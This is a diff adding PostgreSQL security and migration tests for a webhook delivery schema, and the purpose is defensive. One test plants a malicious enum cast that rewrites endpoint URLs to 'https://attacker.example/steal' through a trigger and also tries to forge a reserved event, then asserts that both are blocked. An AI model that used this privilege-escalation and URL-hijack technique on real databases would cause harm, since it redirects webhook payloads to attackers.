@@ -344,3 +344,76 @@ def test_non_ascii_event_types_and_keys_arrive_percent_encoded_and_signed(db, re
     signing.verify(secret, request.headers, request.body)
     assert json.loads(request.body) == {"x": "é"}
     assert TEST_KEYRING.key_ids  # the suite's keyring sealed this endpoint
+
+
+def test_no_function_of_the_schema_is_executable_by_everyone_even_one_a_later_migration_adds(db):
+    public_functions = ("SELECT count(*) FROM pg_proc p,"
+                        " aclexplode(coalesce(p.proacl, acldefault('f', p.proowner))) a"
+                        " WHERE p.pronamespace = 'webhooks'::regnamespace AND a.grantee = 0")
+    assert query(db, public_functions) == [(0,)]
+    query(db, "CREATE FUNCTION webhooks.added_later() RETURNS int LANGUAGE sql AS 'SELECT 1'")
+    assert query(db, public_functions) == [(1,)]  # PostgreSQL's default for a new function
+    schema.migrate(db)  # as after any migration
+    assert query(db, public_functions) == [(0,)]
+
+
+def test_a_producer_cannot_borrow_the_owners_rights_through_the_fan_out_trigger(db, receiver):
+    endpoint = add_endpoint(db, receiver.url("/victim"))
+    producer = login_as(db, PRODUCER_LOGIN, "webhooks_producer")
+    with psycopg.connect(db, autocommit=True) as conn:
+        conn.execute(f"CREATE SCHEMA app AUTHORIZATION {PRODUCER_LOGIN}")
+    # a cast of the producer's own that to_jsonb(NEW) runs while the trigger converts the row
+    with psycopg.connect(producer, autocommit=True) as conn:
+        conn.execute("CREATE TYPE app.mood AS ENUM ('evil')")
+        conn.execute("CREATE FUNCTION app.mood_json(app.mood) RETURNS json LANGUAGE plpgsql AS $$ BEGIN"
+                     " UPDATE webhooks.endpoints SET url = 'https://attacker.example/steal';"
+                     " RETURN '{}'; END $$")
+        conn.execute("CREATE CAST (app.mood AS json) WITH FUNCTION app.mood_json(app.mood)")
+        conn.execute("CREATE TABLE app.moods (id int, m app.mood)")
+        conn.execute("CREATE TRIGGER fan_out AFTER INSERT ON app.moods FOR EACH ROW"
+                     " EXECUTE FUNCTION webhooks.observer_queue_alert('mood.changed')")
+        with pytest.raises(psycopg.errors.InsufficientPrivilege):
+            conn.execute("INSERT INTO app.moods VALUES (1, 'evil')")
+        # reserved operational event types cannot be forged either
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="reserved"):
+            conn.execute("SELECT webhooks.publish('webhook.endpoint.disabled', '{\"forged\": true}')")
+    [(url,)] = query(db, "SELECT url FROM webhooks.endpoints WHERE id = %s", (endpoint,))
+    assert TEST_KEYRING.open(url, "url") == receiver.url("/victim")
+
+
+def test_the_readme_producer_statements_work_for_a_producer(db, receiver):
+    endpoint = add_endpoint(db, receiver.url("/readme"))
+    producer = login_as(db, PRODUCER_LOGIN, "webhooks_producer")
+    with psycopg.connect(producer, autocommit=True) as conn:
+        first = conn.execute(
+            "INSERT INTO webhooks.alert_delivery_queue (webhook_id, event_type, payload, idempotency_key)"
+            " VALUES (%s, 'alert.created', '{\"alert_id\": 42}', 'alert-42')"
+            " ON CONFLICT (webhook_id, idempotency_key) DO NOTHING RETURNING delivery_id",
+            (endpoint,)).fetchall()
+        again = conn.execute(
+            "INSERT INTO webhooks.alert_delivery_queue (webhook_id, event_type, payload, idempotency_key)"
+            " VALUES (%s, 'alert.created', '{\"alert_id\": 42}', 'alert-42')"
+            " ON CONFLICT (webhook_id, idempotency_key) DO NOTHING RETURNING delivery_id",
+            (endpoint,)).fetchall()
+    assert len(first) == 1 and again == []
+
+
+def test_an_upgrade_dead_letters_queued_rows_whose_identifiers_cannot_be_sent(fresh_db, receiver):
+    url = fresh_db(False)
+    schema.migrate(url, up_to=18)
+    with psycopg.connect(url, autocommit=True) as conn:
+        conn.execute("INSERT INTO webhooks.endpoints (name, url, url_display) VALUES ('old', %s, 'x')",
+                     (receiver.url("/old"),))
+        conn.execute("INSERT INTO webhooks.alert_delivery_queue"
+                     " (webhook_id, event_type, payload, idempotency_key, status) VALUES"
+                     " (1, 'alert\r\ncreated', '{}', 'a', 'pending'),"
+                     " (1, 'alert.created', '{}', repeat('k', 600), 'pending'),"
+                     " (1, 'alert.created', '{}', 'fine', 'pending'),"
+                     " (1, 'alert\nold', '{}', 'done', 'delivered')")
+    schema.migrate(url)
+    rows = query(url, "SELECT idempotency_key, status, dead_letter_reason"
+                      " FROM webhooks.alert_delivery_queue ORDER BY delivery_id")
+    assert [(status, reason is not None) for _key, status, reason in rows] == [
+        ("dead_letter", True), ("dead_letter", True), ("pending", False), ("delivered", False)]
+    claimed = query(url, "SELECT idempotency_key FROM webhooks.acquire('w', 10, 60)")
+    assert claimed == [("fine",)]  # the claim is not blocked by the old rows
